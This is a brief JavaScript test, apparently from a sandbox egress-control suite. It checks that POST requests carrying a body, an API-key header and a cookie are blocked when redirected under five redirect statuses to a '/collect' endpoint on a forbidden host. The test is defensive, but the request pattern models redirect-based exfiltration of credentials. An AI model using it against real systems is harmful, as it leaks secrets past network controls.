/*
 * X07 Has a body and a credential carried on by a redirect to another origin
 * wall: egress
 * ends: returns ["egress_denied"]
 * limits: { "wallMs": 25000 }
 */
export default async (input, env) => {
	const said = await Promise.all([307, 308, 301, 302, 303].map((status) => env.web.fetch(`http://${input.upstream}/redirect?status=${status}&to=${encodeURIComponent(`http://${input.forbidden}/collect`)}`, { method: "POST", body: "private", headers: { "x-api-key": "k", cookie: "c=1" } }).then((r) => `ESCAPED ${r.status}`, (e) => e.code)));
	return [...new Set(said)];
};
